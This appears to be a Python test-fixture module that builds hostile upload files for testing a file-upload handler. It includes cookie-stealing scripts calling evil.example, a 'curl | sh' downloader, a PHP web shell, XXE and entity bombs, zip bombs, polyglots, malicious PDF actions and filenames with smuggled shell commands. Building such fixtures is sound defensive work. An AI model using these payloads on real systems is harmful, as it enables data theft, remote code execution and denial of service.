"""Files that somebody brings who means harm: made here, in many kinds; none of them is taken from anywhere.

Each is small on the wire, whatever it would grow to.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

SCRIPT = "<script>fetch('https://evil.example/?'+document.cookie)</script>"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}</svg>'
XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><l>&j;</l>"
)
#: The string by which scanners of viruses are tried out; put together here so that none finds it in this file.
EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n%%EOF\n"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file, what it is after, and the name and type under which a browser would send it."""

    what: str
    name: str
    content: bytes
    claimed: str = "application/octet-stream"


def hostile_files() -> list[Hostile]:
    """Return all of them; what they are after tells them apart."""
    makers = (_active, _disguised, _polyglots, _bombs, _offices, _pictures, _names, _endings, _pdfs, _texts)
    return [each for maker in makers for each in maker()]


def _zipped(members: dict[str, bytes], *, level: int = 9) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return written.getvalue()


def _active() -> Iterator[Hostile]:
    """What a browser would run if it were shown as what it is."""
    kinds = {
        "html": ("text/html", f"<!doctype html>{SCRIPT}"),
        "htm": ("text/html", f"<html><body onload=alert(1)>{SCRIPT}"),
        "xhtml": ("application/xhtml+xml", f'<html xmlns="http://www.w3.org/1999/xhtml">{SCRIPT}</html>'),
        "svg": ("image/svg+xml", SVG),
        "xml": ("text/xml", f'<?xml-stylesheet href="javascript:alert(1)"?>{XXE}'),
        "xsl": ("text/xsl", '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>'),
        "js": ("text/javascript", "fetch('/me/')"),
        "mjs": ("text/javascript", "export default fetch('/me/')"),
        "css": ("text/css", "@import 'https://evil.example/'"),
        "mht": ("message/rfc822", f"MIME-Version: 1.0\nContent-Type: text/html\n\n{SCRIPT}"),
        "hta": ("application/hta", SCRIPT),
        "swf": ("application/x-shockwave-flash", "FWS\x09"),
        "webmanifest": ("application/manifest+json", '{"start_url":"/"}'),
        "appcache": ("text/cache-manifest", "CACHE MANIFEST\n/"),
        "vbs": ("text/vbscript", "MsgBox 1"),
        "ics": ("text/calendar", "BEGIN:VCALENDAR\nATTACH:file:///etc/passwd\nEND:VCALENDAR"),
        "json": ("application/json", '{"__proto__":{"a":1}}'),
        "php": ("application/x-php", "<?php system($_GET['c']); ?>"),
        "py": ("text/x-python", "import os; os.system('id')"),
        "sh": ("application/x-sh", "#!/bin/sh\ncurl evil.example | sh"),
    }
    for ending, (kind, content) in kinds.items():
        yield Hostile(f"active {ending}", f"plan.{ending}", content.encode(), kind)


def _disguised() -> Iterator[Hostile]:
    """Something active under the name and type of something harmless."""
    harmless = {"png": "image/png", "jpg": "image/jpeg", "pdf": "application/pdf", "webp": "image/webp"}
    bodies = {"html": f"<html>{SCRIPT}", "svg": SVG, "js": "alert(1)", "xml": XXE}
    for ending, kind in harmless.items():
        for active, body in bodies.items():
            yield Hostile(f"{active} as {ending}", f"deck.{ending}", body.encode(), kind)
    for mark, spaces in {"blank": b" " * 600, "breaks": b"\n" * 600, "mark": b"\xef\xbb\xbf"}.items():
        yield Hostile(f"html behind {mark}", "deck.pdf", spaces + SCRIPT.encode(), "application/pdf")
    for coding in ("utf-16-le", "utf-16-be", "utf-32-le"):
        yield Hostile(f"html in {coding}", "deck.txt", SCRIPT.encode(coding), "text/plain")
    yield Hostile("html in utf-7", "deck.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/plain")


def _polyglots() -> Iterator[Hostile]:
    """Two or more kinds at once."""
    archive, heads = _zipped({"a.js": b"alert(1)"}), _heads()
    for name, head in heads.items():
        yield Hostile(f"{name} that is html", f"deck.{name}", head + SCRIPT.encode(), f"image/{name}")
        yield Hostile(f"{name} that is zip", f"deck.{name}", head + archive, f"image/{name}")
        yield Hostile(f"{name} that is js", f"deck.{name}", head + b"*/=1;alert(1)//", f"image/{name}")
    yield Hostile("pdf, html and zip", "deck.pdf", PDF + SCRIPT.encode() + archive, "application/pdf")
    yield Hostile("pdf that is js", "deck.pdf", b"%PDF-1.7/*\n*/=1;alert(1)", "application/pdf")
    yield Hostile("html before pdf", "deck.pdf", SCRIPT.encode() + PDF, "application/pdf")
    yield Hostile(
        "jar in gif", "deck.gif", b"GIF89a" + _zipped({"META-INF/MANIFEST.MF": b"Main-Class: A"}), "image/gif"
    )
    yield Hostile("phar in jpg", "deck.jpg", heads["jpeg"] + b"<?php __HALT_COMPILER(); ?>", "image/jpeg")
    yield Hostile("riff that is no picture", "deck.webp", b"RIFF\0\0\0\0HTML" + SCRIPT.encode(), "image/webp")


def _heads() -> dict[str, bytes]:
    return {
        "png": b"\x89PNG\r\n\x1a\n",
        "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\0",
        "webp": b"RIFF\x10\0\0\0WEBPVP8 ",
        "gif": b"GIF89a/*",
        "bmp": b"BM/*",
        "ico": b"\0\0\1\0",
    }


def _bombs() -> Iterator[Hostile]:
    """What grows when it is opened."""
    zeros = b"\0" * 8_000_000
    yield Hostile("zip bomb", "deck.zip", _zipped({"zeros": zeros}), "application/zip")
    yield Hostile("zip bomb as docx", "deck.docx", _zipped({"word/document.xml": zeros}))
    yield Hostile("zip bomb as xlsx", "deck.xlsx", _zipped({"xl/worksheets/sheet1.xml": zeros}))
    nested = _zipped({"zeros": zeros})
    for depth in range(1, 9):
        nested = _zipped({f"{number}.zip": nested for number in range(4)})
        yield Hostile(f"zip nested {depth} deep", "deck.zip", nested, "application/zip")
    yield Hostile("gzip bomb", "deck.gz", zlib.compress(zeros, 9), "application/gzip")
    yield Hostile("zip of many names", "deck.zip", _zipped({f"{n}/": b"" for n in range(3_000)}))
    yield Hostile("zip that claims more", "deck.zip", _claiming(2**32 - 1), "application/zip")
    yield Hostile("billion laughs", "deck.xml", LAUGHS.encode(), "text/xml")
    yield Hostile("quadratic blow-up", "deck.xml", b"<!DOCTYPE a [<!ENTITY b '" + b"x" * 50_000 + b"'>]><a>&b;&b;</a>")


def _claiming(size: int) -> bytes:
    """An archive whose directory says that its one file is of this size."""
    content = bytearray(_zipped({"a": b"a"}))
    at = content.index(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(content)


def _offices() -> Iterator[Hostile]:
    """Documents that run something, or fetch it."""
    macro = {"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Auto_Open" * 9}
    for ending in ("docm", "xlsm", "pptm", "dotm", "xltm", "docx", "xlsx", "pptx", "xlsb", "xlam"):
        yield Hostile(f"macros in {ending}", f"plan.{ending}", _zipped(macro))
    for ending, part in {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "odt": "content.xml"}.items():
        yield Hostile(f"entity in {ending}", f"plan.{ending}", _zipped({part: XXE.encode()}))
        yield Hostile(f"laughs in {ending}", f"plan.{ending}", _zipped({part: LAUGHS.encode()}))
        yield Hostile(f"slip in {ending}", f"plan.{ending}", _zipped({f"../../{part}": b"x"}))
    link = b'<Relationship TargetMode="External" Target="https://evil.example/t.dotm"/>'
    yield Hostile("template from afar", "plan.docx", _zipped({"word/_rels/settings.xml.rels": link}))
    yield Hostile("old document", "plan.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Auto_Open")
    yield Hostile("rich text", "plan.rtf", b"{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}")
    yield Hostile("sheet with formulas", "plan.csv", b'=cmd|"/c calc"!A1,@SUM(1),+1,-1', "text/csv")
    yield Hostile("old Korean document", "plan.hwp", b"HWP Document File V3.00 \x1a\1\2\3\4\5")
    yield Hostile("Korean document", "plan.hwpx", _zipped({"Contents/section0.xml": XXE.encode()}))


def _pictures() -> Iterator[Hostile]:
    """Pictures of more pixels than any machine holds, and broken ones."""
    for width, height in ((65_535, 65_535), (2**31 - 1, 1), (1, 2**31 - 1), (2**31 - 1, 2**31 - 1), (0, 0)):
        yield Hostile(f"png of {width} × {height}", "photo.png", _png(width, height), "image/png")
    yield Hostile("png with a text bomb", "photo.png", _png(1, 1, text=b"\0" * 4_000_000), "image/png")
    yield Hostile("png that breaks off", "photo.png", _png(10, 10)[:20], "image/png")
    yield Hostile("jpeg of 65535 × 65535", "photo.jpg", b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03", "image/jpeg")
    yield Hostile("webp of 16383 × 16383", "photo.webp", b"RIFF\x1a\0\0\0WEBPVP8X\n\0\0\0\0\0\0\0\xfe\x3f\0\xfe\x3f\0")
    yield Hostile("gif of 65535 × 65535", "photo.gif", b"GIF89a\xff\xff\xff\xff\xf7\0\0", "image/gif")
    yield Hostile(
        "picture with a place", "photo.jpg", b"\xff\xd8\xff\xe1\0\x20Exif\0\0" + SCRIPT.encode(), "image/jpeg"
    )


def _png(width: int, height: int, *, text: bytes = b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    more = chunk(b"zTXt", b"a\0\0" + zlib.compress(text, 9)) if text else b""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + more + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")


def _names() -> Iterator[Hostile]:
    """Names that lead elsewhere, hide what they are, or break whoever writes them down."""
    names = {
        "way up": "../../../../etc/passwd",
        "way up on Windows": "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
        "from the root": "/etc/cron.d/evil",
        "from a drive": "C:\\autoexec.bat",
        "from a share": "\\\\evil.example\\share\\a.pdf",
        "encoded way up": "..%2f..%2fetc%2fpasswd",
        "two dots": "..",
        "one dot": ".",
        "dots": ".....",
        "hidden": ".htaccess",
        "blank": "   ",
        "NUL": "deck.pdf\0.exe",
        "line": "deck\r\nSet-Cookie: a=b.pdf",
        "tab": "deck\t.pdf",
        "turned": "deck\u202efdp.exe",
        "isolate": "deck\u2066fdp\u2069.exe",
        "no width": "deck\u200b.pdf\u200b",
        "line separator": "deck\u2028.pdf",
        "quote": 'deck".pdf; filename="evil.html',
        "markup": "<img src=x onerror=alert(1)>.pdf",
        "template": "{{ settings.SECRET_KEY }}{% debug %}.pdf",
        "shell": "$(rm -rf ~);`id`|cat.pdf",
        "formula": "=HYPERLINK(evil).pdf",
        "very long": "d" * 10_000 + ".pdf",
        "long in Hangul": "가" * 5_000 + ".pdf",
        "taken apart": "\u1112\u1161\u11ab.pdf",
        "streams": "deck.pdf::$DATA",
        "trailing dots": "deck.exe...",
        "trailing blanks": "deck.exe   ",
        "colon": "deck:evil.exe",
        "wild": "*?.pdf",
        "dash": "-rf",
        "tilde": "~root",
    }
    devices = ("CON", "con.pdf", "PRN.txt", "AUX", "NUL.pdf", "COM1", "com9.tar.gz", "LPT1.pdf")
    for what, name in {**names, **{f"device {each}": each for each in devices}}.items():
        yield Hostile(f"name: {what}", name, b"%PDF-1.7 plain")


def _endings() -> Iterator[Hostile]:
    """Two endings, of which one runs."""
    for first, last in (
        ("pdf", "exe"), ("pdf", "html"), ("jpg", "php"), ("png", "svg"), ("docx", "js"), ("pdf", "lnk"), ("txt", "scr"),
        ("html", "pdf"), ("php", "jpg"), ("exe", "png"), ("svg", "txt"), ("hta", "pdf"),
    ):  # fmt: skip
        yield Hostile(f"{first}.{last}", f"deck.{first}.{last}", f"MZ{SCRIPT}".encode())


def _pdfs() -> Iterator[Hostile]:
    """Documents that run, send or fetch something."""
    actions = {
        "script": b"/S/JavaScript/JS(app.alert(1))",
        "launch": b"/S/Launch/F(cmd.exe)",
        "address": b"/S/URI/URI(javascript:alert(1))",
        "form that is sent": b"/S/SubmitForm/F(https://evil.example)",
        "file elsewhere": b"/S/GoToR/F(\\\\\\\\evil.example\\\\a)",
        "embedded file": b"/S/GoToE/T<</R/C/N(evil.exe)>>",
        "named": b"/S/Named/N/Print",
    }
    for what, action in actions.items():
        yield Hostile(
            f"pdf with {what}", "plan.pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<<" + action + b">>>>endobj\n%%EOF"
        )
    loop = b"%PDF-1.7\n1 0 obj<</Length 1 0 R/Filter/FlateDecode>>stream\n" + zlib.compress(b"\0" * 4_000_000, 9)
    yield Hostile("pdf with a bomb in a stream", "plan.pdf", loop)


def _texts() -> Iterator[Hostile]:
    """Nothing, tests of scanners, programs."""
    yield Hostile("nothing", "plan.pdf", b"", "application/pdf")
    yield Hostile("one byte", "plan.pdf", b"\0", "application/pdf")
    yield Hostile("too large", "plan.pdf", b"%PDF-" + b"x" * 10_000_000, "application/pdf")
    for ending in ("com", "txt", "pdf", "zip"):
        content = _zipped({"eicar.com": EICAR.encode()}) if ending == "zip" else EICAR.encode()
        yield Hostile(f"scanner's test as {ending}", f"eicar.{ending}", content)
    for what, head in {
        "Windows": b"MZ\x90\0",
        "Linux": b"\x7fELF\2\1\1",
        "Mac": b"\xcf\xfa\xed\xfe",
        "Java": b"\xca\xfe\xba\xbe",
    }.items():
        yield Hostile(f"program for {what}", "plan.pdf", head + b"\0" * 64, "application/pdf")
